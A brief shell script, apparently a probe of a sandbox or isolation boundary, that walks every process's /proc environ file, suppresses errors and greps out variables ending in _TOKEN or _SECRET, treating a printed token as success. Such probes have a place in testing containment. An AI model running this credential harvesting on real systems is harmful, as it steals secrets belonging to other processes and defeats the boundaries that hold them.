#!/bin/sh
# Reads the environment of every process that it sees, the wall's own first process too. Success: a token is printed.
for file in /proc/[0-9]*/environ; do
    tr '\0' '\n' <"$file"
done 2>/dev/null | grep -a -e _TOKEN= -e _SECRET=
